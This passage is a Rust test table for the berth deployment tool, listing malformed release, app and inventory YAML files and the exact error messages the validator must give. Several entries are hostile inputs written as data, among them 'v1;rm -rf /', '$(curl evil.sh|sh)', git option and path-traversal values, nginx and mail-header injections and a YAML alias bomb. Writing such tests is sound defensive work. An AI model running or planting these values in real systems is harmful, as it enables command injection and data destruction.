//! The bad-input table: every entry is a file berth must refuse, with the
//! exact messages it must print. Inputs come from developers' repositories
//! and merge requests, so each message also shows that hostile text is
//! quoted safely.

use berth::config::settings::AppSettings;
use berth::config::{AppFile, Inventory, ReleaseFile};

use crate::common::{edit, APP_YML, INVENTORY_YML};

#[derive(Clone, Copy, Debug)]
pub enum Kind {
    Release,
    App,
    Inventory,
    /// A code repository's berth.yml, for the skeleton app granted storage.
    Settings,
}

pub struct Case {
    pub name: &'static str,
    pub kind: Kind,
    pub text: String,
    pub expected: &'static [&'static str],
}

/// Parses `text` as `kind` and renders each problem as berth prints it.
pub fn problems(kind: Kind, text: &str) -> Vec<String> {
    let result = match kind {
        Kind::Release => ReleaseFile::parse("release.yml", text).map(|_| ()),
        Kind::App => AppFile::parse("app.yml", text).map(|_| ()),
        Kind::Inventory => Inventory::parse("inventory.yml", text).map(|_| ()),
        Kind::Settings => {
            let app = AppFile::parse(
                "app.yml",
                &app("  pids: 128\n", "  pids: 128\n  storage: 64M\n"),
            )
            .expect("the skeleton with storage is valid");
            AppSettings::parse("berth.yml", text, &app).map(|_| ())
        }
    };
    match result {
        Ok(()) => Vec::new(),
        Err(problems) => problems.0.iter().map(ToString::to_string).collect(),
    }
}

fn release(body: &str) -> String {
    format!("environments:\n  test:\n    ref: {body}\n")
}

/// The skeleton's app.yml with one piece replaced; the piece must occur
/// exactly once.
#[track_caller]
fn app(from: &str, to: &str) -> String {
    edit(APP_YML, from, to)
}

/// The inventory fixture with one piece replaced; the piece must occur
/// exactly once.
#[track_caller]
fn inventory(from: &str, to: &str) -> String {
    edit(INVENTORY_YML, from, to)
}

pub fn cases() -> Vec<Case> {
    use Kind::*;
    let case = |name, kind, text: String, expected| Case {
        name,
        kind,
        text,
        expected,
    };
    let bomb = {
        let mut text = String::from("a: &a [\"lol\", \"lol\"]\n");
        let names = ["a", "b", "c", "d", "e", "f", "g", "h", "i"];
        for pair in names.windows(2) {
            let (prev, name) = (pair[0], pair[1]);
            text.push_str(&format!(
                "{name}: &{name} [*{prev}, *{prev}, *{prev}, *{prev}]\n"
            ));
        }
        text
    };
    vec![
        // release.yml: shape
        case(
            "empty release.yml", Release, String::new(),
            &[
                "release.yml:1:1: file is empty\n  hint: start from the file in mgmt-repo-skeleton/ and fill it in",
            ],
        ),
        case(
            "comments only", Release, "# nothing here\n".into(),
            &[
                "release.yml:1:1: file is empty\n  hint: start from the file in mgmt-repo-skeleton/ and fill it in",
            ],
        ),
        case(
            "environments is null", Release, "environments:\n".into(),
            &[
                "release.yml:1:1: environments: expected a mapping, found nothing (null)\n  hint: write a mapping here",
            ],
        ),
        case(
            "environments is a list", Release, "environments: [test]\n".into(),
            &[
                "release.yml:1:15: environments: expected a mapping, found a list\n  hint: write a mapping here",
            ],
        ),
        case(
            "environments is empty", Release, "environments: {}\n".into(),
            &[
                "release.yml:1:15: environments: mapping is empty\n  hint: add at least one entry under environments",
            ],
        ),
        case(
            "top-level typo", Release, "enviroments:\n  test:\n    ref: v1\n".into(),
            &[
                "release.yml:1:1: environments: required key environments is missing\n  hint: add `environments:` at the top of the file",
                "release.yml:1:1: enviroments: unknown key \"enviroments\"\n  hint: did you mean `environments`?",
            ],
        ),
        case(
            "missing ref", Release, "environments:\n  test: {}\n".into(),
            &[
                "release.yml:2:9: environments.test.ref: required key ref is missing\n  hint: add `ref:` under environments.test",
            ],
        ),
        case(
            "unknown key beside ref", Release, "environments:\n  test:\n    ref: v1\n    tag: v2\n".into(),
            &[
                "release.yml:4:5: environments.test.tag: unknown key \"tag\"\n  hint: known keys here: ref, commit",
            ],
        ),
        case(
            "environment entry is a string", Release, "environments:\n  test: v1.0.0\n".into(),
            &[
                "release.yml:2:9: environments.test: expected a mapping, found a string\n  hint: write a mapping here",
            ],
        ),
        case(
            "root is a list", Release, "- test\n".into(),
            &[
                "release.yml:1:1: expected a mapping, found a list\n  hint: write a mapping here",
            ],
        ),
        case(
            "root is a string", Release, "just text\n".into(),
            &[
                "release.yml:1:1: expected a mapping, found a string\n  hint: write a mapping here",
            ],
        ),
        // release.yml: the pinned commit
        case(
            "abbreviated commit", Release, "environments:\n  test:\n    ref: v1\n    commit: 0123456789ab\n".into(),
            &[
                "release.yml:4:13: environments.test.commit: commit \"0123456789ab\" is not 40 lowercase hexadecimal digits\n  hint: give the full 40-character commit id, e.g. the output of git rev-parse 'v1.4.0^{commit}'",
            ],
        ),
        case(
            "uppercase commit", Release, format!("environments:\n  test:\n    ref: v1\n    commit: {}\n", "ABCDEF0123".repeat(4)),
            &[
                "release.yml:4:13: environments.test.commit: commit \"ABCDEF0123ABCDEF0123ABCDEF0123ABCDEF0123\" is not 40 lowercase hexadecimal digits\n  hint: give the full 40-character commit id, e.g. the output of git rev-parse 'v1.4.0^{commit}'",
            ],
        ),
        case(
            "commit as a revision expression", Release, "environments:\n  test:\n    ref: v1\n    commit: \"HEAD~1\"\n".into(),
            &[
                "release.yml:4:13: environments.test.commit: commit \"HEAD~1\" is not 40 lowercase hexadecimal digits\n  hint: give the full 40-character commit id, e.g. the output of git rev-parse 'v1.4.0^{commit}'",
            ],
        ),
        // release.yml: tags
        case(
            "tag with ;", Release, release("\"v1;rm -rf /\""),
            &[
                "release.yml:3:10: environments.test.ref: tag \"v1;rm -rf /\" contains ';', which a tag may not contain\n  hint: a tag may use letters, digits and . _ - / +, must start with a letter or digit, e.g. v1.4.0",
            ],
        ),
        case(
            "tag with newline", Release, release("\"v1\\nmalicious: true\""),
            &[
                "release.yml:3:10: environments.test.ref: tag \"v1\\nmalicious: true\" contains a newline, which a tag may not contain\n  hint: a tag may use letters, digits and . _ - / +, must start with a letter or digit, e.g. v1.4.0",
            ],
        ),
        case(
            "tag with $()", Release, release("\"$(curl evil.sh|sh)\""),
            &[
                "release.yml:3:10: environments.test.ref: tag \"$(curl evil.sh|sh)\" contains '$', which a tag may not contain\n  hint: a tag may use letters, digits and . _ - / +, must start with a letter or digit, e.g. v1.4.0",
            ],
        ),
        case(
            "tag with backticks", Release, release("\"`id`\""),
            &[
                "release.yml:3:10: environments.test.ref: tag \"`id`\" contains '`', which a tag may not contain\n  hint: a tag may use letters, digits and . _ - / +, must start with a letter or digit, e.g. v1.4.0",
            ],
        ),
        case(
            "tag with space", Release, release("\"v1 v2\""),
            &[
                "release.yml:3:10: environments.test.ref: tag \"v1 v2\" contains a space, which a tag may not contain\n  hint: a tag may use letters, digits and . _ - / +, must start with a letter or digit, e.g. v1.4.0",
            ],
        ),
        case(
            "tag as git option", Release, release("--upload-pack"),
            &[
                "release.yml:3:10: environments.test.ref: tag \"--upload-pack\" must start with a letter or digit\n  hint: a tag may use letters, digits and . _ - / +, must start with a letter or digit, e.g. v1.4.0",
            ],
        ),
        case(
            "tag with ..", Release, release("v1..v2"),
            &[
                "release.yml:3:10: environments.test.ref: tag \"v1..v2\" contains \"..\"\n  hint: a tag may use letters, digits and . _ - / +, must start with a letter or digit, e.g. v1.4.0",
            ],
        ),
        case(
            "tag ending .lock", Release, release("v1.lock"),
            &[
                "release.yml:3:10: environments.test.ref: tag \"v1.lock\" breaks git's ref rules (empty component, component starting with '.' or ending with \".lock\")\n  hint: a tag may use letters, digits and . _ - / +, must start with a letter or digit, e.g. v1.4.0",
            ],
        ),
        case(
            "tag ending /", Release, release("release/"),
            &[
                "release.yml:3:10: environments.test.ref: tag \"release/\" must not end with '/' or '.'\n  hint: a tag may use letters, digits and . _ - / +, must start with a letter or digit, e.g. v1.4.0",
            ],
        ),
        case(
            "tag with @{", Release, release("\"main@{1}\""),
            &[
                "release.yml:3:10: environments.test.ref: tag \"main@{1}\" contains '@', which a tag may not contain\n  hint: a tag may use letters, digits and . _ - / +, must start with a letter or digit, e.g. v1.4.0",
            ],
        ),
        case(
            "tag with ~ and ^", Release, release("\"v1~1^2\""),
            &[
                "release.yml:3:10: environments.test.ref: tag \"v1~1^2\" contains '~', which a tag may not contain\n  hint: a tag may use letters, digits and . _ - / +, must start with a letter or digit, e.g. v1.4.0",
            ],
        ),
        case(
            "tag with glob", Release, release("\"v1*\""),
            &[
                "release.yml:3:10: environments.test.ref: tag \"v1*\" contains '*', which a tag may not contain\n  hint: a tag may use letters, digits and . _ - / +, must start with a letter or digit, e.g. v1.4.0",
            ],
        ),
        case(
            "tag with backslash", Release, release("'v1\\x'"),
            &[
                "release.yml:3:10: environments.test.ref: tag \"v1\\\\x\" contains '\\', which a tag may not contain\n  hint: a tag may use letters, digits and . _ - / +, must start with a letter or digit, e.g. v1.4.0",
            ],
        ),
        case(
            "tag component starting with dot", Release, release("rel/.hidden"),
            &[
                "release.yml:3:10: environments.test.ref: tag \"rel/.hidden\" breaks git's ref rules (empty component, component starting with '.' or ending with \".lock\")\n  hint: a tag may use letters, digits and . _ - / +, must start with a letter or digit, e.g. v1.4.0",
            ],
        ),
        case(
            "tag with unicode look-alike", Release, release("\"v1\u{2024}0\""),
            &[
                "release.yml:3:10: environments.test.ref: tag \"v1\\u{2024}0\" contains '\\u{2024}', which a tag may not contain\n  hint: a tag may use letters, digits and . _ - / +, must start with a letter or digit, e.g. v1.4.0",
            ],
        ),
        case(
            "tag with right-to-left override", Release, release("\"v1\u{202e}0\""),
            &[
                "release.yml:3:10: environments.test.ref: tag \"v1\\u{202e}0\" contains '\\u{202e}', which a tag may not contain\n  hint: a tag may use letters, digits and . _ - / +, must start with a letter or digit, e.g. v1.4.0",
            ],
        ),
        case(
            "tag empty", Release, release("\"\""),
            &[
                "release.yml:3:10: environments.test.ref: tag is empty\n  hint: a tag may use letters, digits and . _ - / +, must start with a letter or digit, e.g. v1.4.0",
            ],
        ),
        case(
            "tag too long", Release, release(&"v".repeat(150)),
            &[
                "release.yml:3:10: environments.test.ref: tag \"vvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvvv…\" is longer than 100 characters\n  hint: a tag may use letters, digits and . _ - / +, must start with a letter or digit, e.g. v1.4.0",
            ],
        ),
        case(
            "tag is a number", Release, release("1.10"),
            &[
                "release.yml:3:10: environments.test.ref: expected a string, found a decimal number\n  hint: YAML read this as another type; put the value in double quotes",
            ],
        ),
        case(
            "tag is a boolean", Release, release("true"),
            &[
                "release.yml:3:10: environments.test.ref: expected a string, found a boolean\n  hint: YAML read this as another type; put the value in double quotes",
            ],
        ),
        case(
            "tag is null", Release, release("~"),
            &[
                "release.yml:3:10: environments.test.ref: expected a string, found nothing (null)\n  hint: YAML read this as another type; put the value in double quotes",
            ],
        ),
        case(
            "tag is a mapping", Release, release("{name: v1}"),
            &[
                "release.yml:3:11: environments.test.ref: expected a string, found a mapping\n  hint: write a string here",
            ],
        ),
        case(
            "tag is a list", Release, release("[v1, v2]"),
            &[
                "release.yml:3:10: environments.test.ref: expected a string, found a list\n  hint: write a string here",
            ],
        ),
        // release.yml: environment names
        case(
            "environment name uppercase", Release, "environments:\n  Production:\n    ref: v1\n".into(),
            &[
                "release.yml:2:3: environments.Production: environment name \"Production\" contains 'P'\n  hint: use at most 20 lowercase letters, digits and '-', starting with a letter, e.g. production",
            ],
        ),
        case(
            "environment name with space", Release, "environments:\n  \"prod env\":\n    ref: v1\n".into(),
            &[
                "release.yml:2:3: environments.prod env: environment name \"prod env\" contains a space\n  hint: use at most 20 lowercase letters, digits and '-', starting with a letter, e.g. production",
            ],
        ),
        case(
            "environment name too long", Release, format!("environments:\n  {}:\n    ref: v1\n", "e".repeat(30)),
            &[
                "release.yml:2:3: environments.eeeeeeeeeeeeeeeeeeeeeeeeeeeeee: environment name \"eeeeeeeeeeeeeeeeeeeeeeeeeeeeee\" is longer than 20 characters\n  hint: use at most 20 lowercase letters, digits and '-', starting with a letter, e.g. production",
            ],
        ),
        case(
            "environment name with nginx injection", Release, "environments:\n  \"test;}\":\n    ref: v1\n".into(),
            &[
                "release.yml:2:3: environments.test;}: environment name \"test;}\" contains ';'\n  hint: use at most 20 lowercase letters, digits and '-', starting with a letter, e.g. production",
            ],
        ),
        // YAML features refused
        case(
            "alias bomb", Release, bomb,
            &[
                "release.yml:1:7: YAML anchor found\n  hint: anchors (&), aliases (*) and merge keys are not allowed in berth files; write each value out",
            ],
        ),
        case(
            "merge key", Release, "base: &b {ref: v1}\nenvironments:\n  test:\n    <<: *b\n".into(),
            &[
                "release.yml:1:10: YAML anchor found\n  hint: anchors (&), aliases (*) and merge keys are not allowed in berth files; write each value out",
            ],
        ),
        case(
            "explicit tag", Release, "environments:\n  test:\n    ref: !!str v1\n".into(),
            &[
                "release.yml:3:16: YAML tag found\n  hint: tags such as !!str or !include are not allowed; quote the value instead",
            ],
        ),
        case(
            "custom tag", Release, "environments: !include other.yml\n".into(),
            &[
                "release.yml:1:24: YAML tag found\n  hint: tags such as !!str or !include are not allowed; quote the value instead",
            ],
        ),
        case(
            "duplicate key", Release, "environments:\n  test:\n    ref: v1\n  test:\n    ref: v2\n".into(),
            &[
                "release.yml:4:3: duplicate key \"test\" (first at line 2)\n  hint: each key may appear once; remove or merge the duplicate",
            ],
        ),
        case(
            "two documents", Release, "environments:\n  test:\n    ref: v1\n---\nenvironments: {}\n".into(),
            &[
                "release.yml:4:1: file holds more than one YAML document\n  hint: remove the extra '---' separator",
            ],
        ),
        case(
            "unclosed quote", Release, "environments:\n  test:\n    ref: \"v1\n".into(),
            &[
                "release.yml:3:10: invalid YAML: while scanning a quoted scalar, found unexpected end of stream\n  hint: check the indentation and quoting around this position",
            ],
        ),
        case(
            "bad indentation", Release, "environments:\n  test:\n    ref: v1\n   prod:\n".into(),
            &[
                "release.yml:4:8: invalid YAML: while parsing a block mapping, did not find expected key\n  hint: check the indentation and quoting around this position",
            ],
        ),
        case(
            "tab indentation", Release, "environments:\n\ttest:\n\t\tref: v1\n".into(),
            &[
                "release.yml:2:2: invalid YAML: tabs disallowed within this context (block indentation)\n  hint: check the indentation and quoting around this position",
            ],
        ),
        case(
            "complex key", Release, "? [a, b]\n: v1\n".into(),
            &[
                "release.yml:1:3: a mapping key is not a plain string\n  hint: keys are names such as environments or ports",
            ],
        ),
        case(
            "very large file", Release, format!("# {}\nenvironments: {{}}\n", "x".repeat(70_000)),
            &[
                "release.yml:1:1: file is 70020 bytes, more than the 65536 bytes berth reads\n  hint: configuration files are small; check that the right file was given",
            ],
        ),
        case(
            "deep nesting", Release, format!("environments: {}{}\n", "[".repeat(40), "]".repeat(40)),
            &[
                "release.yml:1:27: nesting is deeper than 12 levels\n  hint: berth files are shallow; check the indentation",
            ],
        ),
        // app.yml: identity
        case(
            "app id with underscore and capitals", App, app("id: example", "id: My_App"),
            &[
                "app.yml:2:5: id: app id \"My_App\" contains 'M'\n  hint: use at most 40 lowercase letters, digits and '-', starting with a letter, e.g. shop-search",
            ],
        ),
        case(
            "app id starting with a digit", App, app("id: example", "id: 1app"),
            &[
                "app.yml:2:5: id: app id \"1app\" must start with a letter and not end with '-'\n  hint: use at most 40 lowercase letters, digits and '-', starting with a letter, e.g. shop-search",
            ],
        ),
        case(
            "app id ending with -", App, app("id: example", "id: app-"),
            &[
                "app.yml:2:5: id: app id \"app-\" must start with a letter and not end with '-'\n  hint: use at most 40 lowercase letters, digits and '-', starting with a letter, e.g. shop-search",
            ],
        ),
        case(
            "owner with @", App, app("owner: example-dev", "owner: \"@alice\""),
            &[
                "app.yml:3:8: owner: \"@alice\" is not a GitLab user name\n  hint: write the user name without '@', using letters, digits, '_', '-' and '.'",
            ],
        ),
        case(
            "code repo with ..", App, app("code_repo: plugins/example", "code_repo: plugins/../admin"),
            &[
                "app.yml:4:12: code_repo: \"plugins/../admin\" is not a GitLab project path\n  hint: write group/project, e.g. plugins/shop-search",
            ],
        ),
        case(
            "code repo without group", App, app("code_repo: plugins/example", "code_repo: example"),
            &[
                "app.yml:4:12: code_repo: \"example\" is not a GitLab project path\n  hint: write group/project, e.g. plugins/shop-search",
            ],
        ),
        case(
            "runtime with capitals", App, app("runtime: berth/php-nginx:8.2-bookworm", "runtime: Berth/PHP"),
            &[
                "app.yml:5:10: runtime: \"Berth/PHP\" is not a valid image name\n  hint: write a local image as name:tag, e.g. berth/php-nginx:8.2-bookworm",
            ],
        ),
        case(
            "runtime with shell", App, app("runtime: berth/php-nginx:8.2-bookworm", "runtime: \"php; docker run evil\""),
            &[
                "app.yml:5:10: runtime: \"php; docker run evil\" is not a valid image name\n  hint: write a local image as name:tag, e.g. berth/php-nginx:8.2-bookworm",
            ],
        ),
        // app.yml: paths
        case(
            "docroot traversal", App, app("docroot: public", "docroot: ../../etc"),
            &[
                "app.yml:6:10: docroot: path \"../../etc\" leaves its directory with \"..\"\n  hint: give a path inside the code checkout, such as public or web/root, using letters, digits and . _ - /",
            ],
        ),
        case(
            "docroot absolute", App, app("docroot: public", "docroot: /etc"),
            &[
                "app.yml:6:10: docroot: path \"/etc\" is absolute\n  hint: give a path inside the code checkout, such as public or web/root, using letters, digits and . _ - /",
            ],
        ),
        case(
            "docroot with $", App, app("docroot: public", "docroot: \"pub$lic\""),
            &[
                "app.yml:6:10: docroot: path \"pub$lic\" contains '$'\n  hint: give a path inside the code checkout, such as public or web/root, using letters, digits and . _ - /",
            ],
        ),
        case(
            "docroot with option", App, app("docroot: public", "docroot: -rf"),
            &[
                "app.yml:6:10: docroot: path \"-rf\" has an empty, '.' or '-'-leading component\n  hint: give a path inside the code checkout, such as public or web/root, using letters, digits and . _ - /",
            ],
        ),
        case(
            "health path relative", App, app("health_path: /health.php", "health_path: health.php"),
            &[
                "app.yml:7:14: health_path: URL path \"health.php\" must start with '/' and be at most 200 characters\n  hint: give a path starting with '/', using letters, digits and . _ ~ - /, e.g. /health.php",
            ],
        ),
        case(
            "health path with ;", App, app("health_path: /health.php", "health_path: \"/h;return 200\""),
            &[
                "app.yml:7:14: health_path: URL path \"/h;return 200\" contains ';'\n  hint: give a path starting with '/', using letters, digits and . _ ~ - /, e.g. /health.php",
            ],
        ),
        case(
            "health path with ..", App, app("health_path: /health.php", "health_path: /a/../b"),
            &[
                "app.yml:7:14: health_path: URL path \"/a/../b\" contains a '.' or '..' segment\n  hint: give a path starting with '/', using letters, digits and . _ ~ - /, e.g. /health.php",
            ],
        ),
        case(
            "health path with space", App, app("health_path: /health.php", "health_path: \"/h HTTP/1.0\""),
            &[
                "app.yml:7:14: health_path: URL path \"/h HTTP/1.0\" contains a space\n  hint: give a path starting with '/', using letters, digits and . _ ~ - /, e.g. /health.php",
            ],
        ),
        // app.yml: domains
        case(
            "domain with ;", App, app("domains: [example.test.berth.localhost]", "domains: [\"a.example.com; include /etc/passwd\"]"),
            &[
                "app.yml:12:15: environments.test.domains[0]: domain name \"a.example.com; include /etc/passwd\" contains ';'\n  hint: write a lowercase DNS name such as shop.example.com; internationalized names in punycode (xn--…)",
            ],
        ),
        case(
            "domain with {", App, app("domains: [example.test.berth.localhost]", "domains: [\"a.example.com{\"]"),
            &[
                "app.yml:12:15: environments.test.domains[0]: domain name \"a.example.com{\" contains '{'\n  hint: write a lowercase DNS name such as shop.example.com; internationalized names in punycode (xn--…)",
            ],
        ),
        case(
            "domain with space", App, app("domains: [example.test.berth.localhost]", "domains: [\"a.example.com b.example.com\"]"),
            &[
                "app.yml:12:15: environments.test.domains[0]: domain name \"a.example.com b.example.com\" contains a space\n  hint: write a lowercase DNS name such as shop.example.com; internationalized names in punycode (xn--…)",
            ],
        ),
        case(
            "domain in unicode", App, app("domains: [example.test.berth.localhost]", "domains: [\"exämple.com\"]"),
            &[
                "app.yml:12:15: environments.test.domains[0]: domain name \"ex\\u{e4}mple.com\" contains '\\u{e4}'\n  hint: write a lowercase DNS name such as shop.example.com; internationalized names in punycode (xn--…)",
            ],
        ),
        case(
            "domain uppercase", App, app("domains: [example.test.berth.localhost]", "domains: [Example.COM]"),
            &[
                "app.yml:12:15: environments.test.domains[0]: domain name \"Example.COM\" contains 'E'\n  hint: write a lowercase DNS name such as shop.example.com; internationalized names in punycode (xn--…)",
            ],
        ),
        case(
            "domain single label", App, app("domains: [example.test.berth.localhost]", "domains: [localhost]"),
            &[
                "app.yml:12:15: environments.test.domains[0]: domain name \"localhost\" needs at least two labels\n  hint: write a lowercase DNS name such as shop.example.com; internationalized names in punycode (xn--…)",
            ],
        ),
        case(
            "domain label starting with -", App, app("domains: [example.test.berth.localhost]", "domains: [-a.example.com]"),
            &[
                "app.yml:12:15: environments.test.domains[0]: domain name \"-a.example.com\" has a label that is empty, longer than 63 characters, or starts or ends with '-'\n  hint: write a lowercase DNS name such as shop.example.com; internationalized names in punycode (xn--…)",
            ],
        ),
        case(
            "domain label too long", App, app("domains: [example.test.berth.localhost]", &format!("domains: [{}.com]", "a".repeat(64))),
            &[
                "app.yml:12:15: environments.test.domains[0]: domain name \"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa…\" has a label that is empty, longer than 63 characters, or starts or ends with '-'\n  hint: write a lowercase DNS name such as shop.example.com; internationalized names in punycode (xn--…)",
            ],
        ),
        case(
            "domain is an IP address", App, app("domains: [example.test.berth.localhost]", "domains: [\"10.0.0.1\"]"),
            &[
                "app.yml:12:15: environments.test.domains[0]: domain name \"10.0.0.1\" ends in an all-numeric label\n  hint: write a lowercase DNS name such as shop.example.com; internationalized names in punycode (xn--…)",
            ],
        ),
        case(
            "domain wildcard", App, app("domains: [example.test.berth.localhost]", "domains: [\"*.example.com\"]"),
            &[
                "app.yml:12:15: environments.test.domains[0]: domain name \"*.example.com\" contains '*'\n  hint: write a lowercase DNS name such as shop.example.com; internationalized names in punycode (xn--…)",
            ],
        ),
        case(
            "domains empty", App, app("domains: [example.test.berth.localhost]", "domains: []"),
            &[
                "app.yml:12:14: environments.test.domains: no domain given\n  hint: list at least one domain the app answers to",
            ],
        ),
        case(
            "domain used twice", App, app("domains: [example.berth.localhost]", "domains: [example.test.berth.localhost]"),
            &[
                "app.yml:16:14: environments.production.domains: domain example.test.berth.localhost is listed twice (also in test)\n  hint: each domain belongs to exactly one environment",
            ],
        ),
        // app.yml: ports
        case(
            "ports duplicate in a pair", App, app("ports: [18001, 18002]", "ports: [18001, 18001]"),
            &[
                "app.yml:11:12: environments.test.ports: both slots use port 18001\n  hint: the blue and green slots run side by side and need two different ports",
            ],
        ),
        case(
            "port privileged", App, app("ports: [18001, 18002]", "ports: [80, 18002]"),
            &[
                "app.yml:11:13: environments.test.ports[0]: port \"80\" is out of range\n  hint: use an unprivileged port between 1024 and 65535",
            ],
        ),
        case(
            "port above 65535", App, app("ports: [18001, 18002]", "ports: [18001, 70000]"),
            &[
                "app.yml:11:20: environments.test.ports[1]: port \"70000\" is out of range\n  hint: use an unprivileged port between 1024 and 65535",
            ],
        ),
        case(
            "port negative", App, app("ports: [18001, 18002]", "ports: [-1, 18002]"),
            &[
                "app.yml:11:13: environments.test.ports[0]: port \"-1\" is out of range\n  hint: use an unprivileged port between 1024 and 65535",
            ],
        ),
        case(
            "port quoted", App, app("ports: [18001, 18002]", "ports: [\"18001\", 18002]"),
            &[
                "app.yml:11:13: environments.test.ports[0]: expected an integer, found a string\n  hint: write an integer here",
            ],
        ),
        case(
            "three ports", App, app("ports: [18001, 18002]", "ports: [18001, 18002, 18003]"),
            &[
                "app.yml:11:12: environments.test.ports: expected 2 ports, found 3\n  hint: give one port per slot: [blue, green], e.g. [18001, 18002]",
            ],
        ),
        case(
            "ports shared between environments", App, app("ports: [18011, 18012]", "ports: [18002, 18012]"),
            &[
                "app.yml:15:12: environments.production.ports: port 18002 on host local is also used by environment test\n  hint: give every environment on the same host its own port pair",
            ],
        ),
        // app.yml: limits and php
        case(
            "memory without unit", App, app("memory: 256M", "memory: 256"),
            &[
                "app.yml:19:11: limits.memory: expected a string, found an integer\n  hint: YAML read this as another type; put the value in double quotes",
            ],
        ),
        case(
            "memory word", App, app("memory: 256M", "memory: lots"),
            &[
                "app.yml:19:11: limits.memory: size \"lots\" is not a number with a K, M or G suffix\n  hint: write a whole number followed by K, M or G, e.g. 256M",
            ],
        ),
        case(
            "memory above bound", App, app("memory: 256M", "memory: 64G"),
            &[
                "app.yml:19:11: limits.memory: 64G is outside the platform's bounds\n  hint: use a size from 32M to 4G",
            ],
        ),
        case(
            "cpus zero", App, app("cpus: 0.5", "cpus: 0"),
            &[
                "app.yml:18:9: limits.cpus: cpus \"0\" is out of range or not a decimal number\n  hint: write a decimal number of CPUs from 0.05 to 16, e.g. 0.5",
            ],
        ),
        case(
            "cpus too many", App, app("cpus: 0.5", "cpus: 100"),
            &[
                "app.yml:18:9: limits.cpus: cpus \"100\" is out of range or not a decimal number\n  hint: write a decimal number of CPUs from 0.05 to 16, e.g. 0.5",
            ],
        ),
        case(
            "cpus as text", App, app("cpus: 0.5", "cpus: half"),
            &[
                "app.yml:18:9: limits.cpus: expected a number, found a string\n  hint: write a number here",
            ],
        ),
        case(
            "pids too low", App, app("pids: 128", "pids: 10"),
            &[
                "app.yml:20:9: limits.pids: pids \"10\" is out of range\n  hint: use a whole number from 16 to 4096",
            ],
        ),
        case(
            "pids as text", App, app("pids: 128", "pids: \"128\""),
            &[
                "app.yml:20:9: limits.pids: expected an integer, found a string\n  hint: write an integer here",
            ],
        ),
        case(
            "php memory above container", App, app("memory_limit: 128M", "memory_limit: 512M"),
            &[
                "app.yml:22:17: php.memory_limit: memory_limit 512M is more than the container's memory limit 256M\n  hint: lower php.memory_limit or raise limits.memory",
            ],
        ),
        case(
            "post smaller than upload", App, app("post_max_size: 8M", "post_max_size: 4M"),
            &[
                "app.yml:25:18: php.post_max_size: post_max_size 4M is smaller than upload_max_filesize 8M\n  hint: a whole upload must fit in one POST body; make post_max_size at least upload_max_filesize",
            ],
        ),
        case(
            "max_execution_time zero", App, app("max_execution_time: 30", "max_execution_time: 0"),
            &[
                "app.yml:23:23: php.max_execution_time: max_execution_time \"0\" is out of range\n  hint: use a whole number from 1 to 300",
            ],
        ),
        case(
            "unknown key typo", App, app("memory: 256M", "memroy: 256M"),
            &[
                "app.yml:18:3: limits.memory: required key memory is missing\n  hint: add `memory:` under limits",
                "app.yml:19:3: limits.memroy: unknown key \"memroy\"\n  hint: did you mean `memory`?",
            ],
        ),
        case(
            "php ini injection key", App, app("max_children: 5", "max_children: 5\n  disable_functions: \"\""),
            &[
                "app.yml:27:3: php.disable_functions: unknown key \"disable_functions\"\n  hint: known keys here: memory_limit, max_execution_time, upload_max_filesize, post_max_size, max_children",
            ],
        ),
        case(
            "extra host bad address", App, format!("{APP_YML}extra_hosts:\n  - name: api.partner.example\n    address: 10.0.0.300\n"),
            &[
                "app.yml:29:14: extra_hosts[0].address: \"10.0.0.300\" is not an IP address\n  hint: write an IPv4 or IPv6 address such as 10.0.0.5",
            ],
        ),
        case(
            "extra host name injection", App, format!("{APP_YML}extra_hosts:\n  - name: \"api:1.2.3.4\"\n    address: 10.0.0.3\n"),
            &[
                "app.yml:28:11: extra_hosts[0].name: domain name \"api:1.2.3.4\" contains ':'\n  hint: write a lowercase DNS name such as shop.example.com; internationalized names in punycode (xn--…)",
            ],
        ),
        case(
            "egress to an IPv6 address", App, format!("{APP_YML}egress:\n  - name: api.partner.example\n    address: \"2001:db8::1\"\n    ports: [443]\n"),
            &[
                "app.yml:29:14: egress[0].address: 2001:db8::1 is an IPv6 address\n  hint: slot networks are IPv4 only: give the destination's IPv4 address",
            ],
        ),
        case(
            "egress without ports", App, format!("{APP_YML}egress:\n  - name: api.partner.example\n    address: 198.51.100.7\n    ports: []\n"),
            &[
                "app.yml:30:12: egress[0].ports: no port is allowed\n  hint: list the TCP ports the app calls there, e.g. [443]",
            ],
        ),
        case(
            "mail sender with a header in it", App, format!("{APP_YML}mail:\n  from: \"a@shop.example.com\\nBcc: x@y.example\"\n  per_minute: 0\n  to: x@y.example\n"),
            &[
                "app.yml:28:9: mail.from: mail address \"a@shop.example.com\\nBcc: x@y.example\": domain name \"shop.example.com\\nBcc: x@y.example\" contains a newline\n  hint: write an address such as noreply@shop.example.com: ASCII letters, digits and . _ + - before the @, a lowercase domain after it",
                "app.yml:29:15: mail.per_minute: per_minute \"0\" is out of range\n  hint: use a whole number from 1 to 600",
                "app.yml:30:3: mail.to: unknown key \"to\"\n  hint: known keys here: from, per_minute",
            ],
        ),
        case(
            "missing required keys", App, edit(&app("id: example\n", ""), "health_path: /health.php\n", ""),
            &[
                "app.yml:2:1: id: required key id is missing\n  hint: add `id:` at the top of the file",
                "app.yml:2:1: health_path: required key health_path is missing\n  hint: add `health_path:` at the top of the file",
            ],
        ),
        case(
            "several problems together", App, edit(&edit(&app("id: example", "id: Bad!"), "ports: [18001, 18002]", "ports: [1, 2]"), "pids: 128", "pids: lots"),
            &[
                "app.yml:2:5: id: app id \"Bad!\" contains 'B'\n  hint: use at most 40 lowercase letters, digits and '-', starting with a letter, e.g. shop-search",
                "app.yml:11:13: environments.test.ports[0]: port \"1\" is out of range\n  hint: use an unprivileged port between 1024 and 65535",
                "app.yml:11:16: environments.test.ports[1]: port \"2\" is out of range\n  hint: use an unprivileged port between 1024 and 65535",
                "app.yml:20:9: limits.pids: expected an integer, found a string\n  hint: write an integer here",
            ],
        ),
        // inventory
        case(
            "publish on all interfaces", Inventory, inventory("publish_address: 127.0.0.1", "publish_address: 0.0.0.0"),
            &[
                "inventory.yml:9:22: hosts.web-1.publish_address: \"0.0.0.0\" is not a loopback or private address\n  hint: publish slots on 127.0.0.1 or a private address the front nginx reaches, never on all interfaces",
            ],
        ),
        case(
            "publish on a public address", Inventory, inventory("publish_address: 127.0.0.1", "publish_address: 8.8.8.8"),
            &[
                "inventory.yml:9:22: hosts.web-1.publish_address: \"8.8.8.8\" is not a loopback or private address\n  hint: publish slots on 127.0.0.1 or a private address the front nginx reaches, never on all interfaces",
            ],
        ),
        case(
